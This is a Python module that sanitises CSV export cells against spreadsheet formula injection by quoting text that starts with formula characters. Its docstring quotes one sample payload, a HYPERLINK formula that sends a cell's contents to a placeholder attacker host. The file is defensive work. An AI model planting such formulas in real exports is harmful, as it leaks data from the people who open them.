"""CSV exports that a spreadsheet opens safely: the one place every export writes its cells.

A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula (CSV or "formula" injection): a reason
`=HYPERLINK("https://evil.example/?"&A2, "klik")` typed into the admin UI would become a live
link in the export of every administrator who opens it. Such a cell gets a leading `'`, the
spreadsheet convention for "this is text", as OWASP recommends; everything else is written as
it is. Only text is touched: numbers and dates the exports produce cannot hold a formula.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> str:
    """The cell as a spreadsheet must see it: '' for None, text that cannot start a formula."""
    if value is None:
        return ""
    if isinstance(value, str):
        return "'" + value if value.startswith(FORMULA_STARTS) else value
    return str(value)


def csv_text(columns: Sequence[str], rows: Iterable[Mapping[str, object]]) -> str:
    """A header line of `columns`, then each row's values for them (others are left out),
    every cell through `safe_cell`."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_cell(c) for c in columns])
    writer.writerows([safe_cell(row.get(c)) for c in columns] for row in rows)
    return out.getvalue()
